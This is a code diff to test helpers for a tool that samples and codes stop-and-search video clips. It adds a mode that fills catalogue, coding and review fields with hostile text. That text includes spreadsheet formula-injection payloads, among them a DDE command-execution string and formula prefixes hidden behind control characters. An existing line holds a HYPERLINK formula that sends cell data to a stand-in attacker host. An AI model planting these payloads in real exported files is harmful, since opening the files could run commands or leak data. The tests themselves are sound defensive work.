@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from bwvtool.catalogue.importer import import_catalogue
-from bwvtool.catalogue.synthetic import synthetic_rows, write_csv
+from bwvtool.catalogue.synthetic import synthetic_rows, write_csv, write_jsonl
 from bwvtool.coding import review
 from bwvtool.coding.session import CodebookCodes, CodingSession
 from bwvtool.sampling import draw, sample_items
@@ -28,13 +28,21 @@ frame:
     all:
       - {field: sources, op: contains_any, value: [stop_search]}
 design:
-  sample: {method: stratified, n: 8, strata: [subject_ethnicity], allocation: proportional}
+  sample: {method: stratified, n: 8, strata: [subject_ethnicity], allocation: proportional, allow_unsampled_strata: true}
 assignment:
   coders: [alice, bob]
   double_code: 0.5
 """
 FORMULA_NOTE = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
 FPS = 25
+# Values that break naive CSV/TSV writers or readers, or that a spreadsheet would run as formulas.
+HOSTILE = (
+    "=1+1", "+SUM(A1)", "-2+3", "@cmd|' /C calc'!A0", " =1", "\t=1", "\r=1", "\n=1", "\x01=1", "\u200b=1",
+    "\uff1d1", "'quoted", "'=1", "a,b", "a\tb", 'say "hi"', "line\rbreak", "line\nbreak", "line\r\nbreak",
+    "x\r=1", '"', ",", "NA", "TRUE", "#comment", "a;b", "é ünï 日本 🚓", "  padded  ",
+)  # fmt: skip
+HOSTILE_BOROUGHS = ("=Westminster", "Lambeth,\r=1", 'Croydon "\t" x')
+HOSTILE_PLAN = PLAN.replace("strata: [subject_ethnicity]", "strata: [borough]")
 
 
 @dataclass
@@ -62,13 +70,28 @@ def _frame(ms: int) -> int:
     return ms * FPS // 1000
 
 
-def code_clip(ws, clip_id: str, coder: str, codebook, codebook_id: int, *, shift: int, variant: int) -> None:
-    """A plausible S&S encounter: demeanour states, officer language, resistance, an assault and escalation."""
+def code_clip(
+    ws,
+    clip_id: str,
+    coder: str,
+    codebook,
+    codebook_id: int,
+    *,
+    shift: int,
+    variant: int,
+    hostile: bool = False,
+) -> None:
+    """A plausible S&S encounter: demeanour states, officer language, resistance, an assault and escalation.
+    ``hostile``: every event carries one of :data:`HOSTILE` as its note."""
     s = CodingSession(
         ws, clip_id=clip_id, coder=coder, codebook_id=codebook_id, codes=CodebookCodes(codebook)
     )
+    start = variant * 5 % len(HOSTILE)
+    notes = iter(HOSTILE[start:] + HOSTILE[:start] + HOSTILE)
 
     def key(code, ms, actor, **kw):
+        if hostile and kw.get("note") is None:
+            kw["note"] = next(notes)
         return s.code_key(code, at_ms=ms + shift, at_frame=_frame(ms + shift), actor=actor, **kw)
 
     key("demeanour", 0, "subject_1", modifiers={"level": "calm"})
@@ -113,17 +136,29 @@ def review_clip(ws, clip_id: str, coder: str, codebook, codebook_id: int, *, var
     review.complete(ws, clip_id=clip_id, coder=coder, codebook=codebook, codebook_id=codebook_id)
 
 
-def build_coded_sample(folder: Path) -> CodedSample:
+def _hostile_rows(rows):
+    """Catalogue rows whose borough (a stratum), BCU and notes hold hostile text."""
+    for i, row in enumerate(rows):
+        yield {**row, "borough": HOSTILE_BOROUGHS[i % 3], "bcu": HOSTILE[i % len(HOSTILE)],
+               "notes": HOSTILE[(i + 7) % len(HOSTILE)]}  # fmt: skip
+
+
+def build_coded_sample(folder: Path, *, hostile: bool = False) -> CodedSample:
+    """The coded sample; ``hostile``: hostile text (:data:`HOSTILE`) in every text field a user can fill."""
     folder.mkdir(parents=True, exist_ok=True)
-    catalogue = folder / "catalogue.csv"
-    write_csv(catalogue, synthetic_rows(300, seed=11))
+    if hostile:
+        catalogue = folder / "catalogue.jsonl"
+        write_jsonl(catalogue, _hostile_rows(synthetic_rows(300, seed=11)))
+    else:
+        catalogue = folder / "catalogue.csv"
+        write_csv(catalogue, synthetic_rows(300, seed=11))
     db = folder / "ws.sqlite"
     ws = open_workspace(db, create=True)
     import_catalogue(ws, catalogue, actor="setup")
     ensure_default_codebooks(ws, actor="setup")
     stored = get_codebook(ws.conn, "ss_language_behaviour")
     plan_file = folder / "plan.yaml"
-    plan_file.write_text(PLAN, encoding="utf-8")
+    plan_file.write_text(HOSTILE_PLAN if hostile else PLAN, encoding="utf-8")
     sample_id = draw(ws, plan_file, seed=5, as_of="2021-04-01", actor="setup")
     items = sample_items(ws, sample_id)
     double = []
@@ -133,8 +168,13 @@ def build_coded_sample(folder: Path) -> CodedSample:
             double.append(item["clip_id"])
         for coder in coders:
             shift = 0 if coder == "alice" else 120
-            code_clip(ws, item["clip_id"], coder, stored.codebook, stored.id, shift=shift, variant=variant)
+            code_clip(ws, item["clip_id"], coder, stored.codebook, stored.id, shift=shift, variant=variant,
+                      hostile=hostile)  # fmt: skip
             note = f"Clip {item['clip_id']} filmed by {item['officer_ref']}"
+            if hostile:
+                note = (
+                    f"{HOSTILE[variant % len(HOSTILE)]} (clip_{item['clip_id'].lower()}_by_{coder.upper()})"
+                )
             review_clip(ws, item["clip_id"], coder, stored.codebook, stored.id, variant=variant, note=note)
     ws.close()
     return CodedSample(db, sample_id, [i["clip_id"] for i in items], double, stored.id)
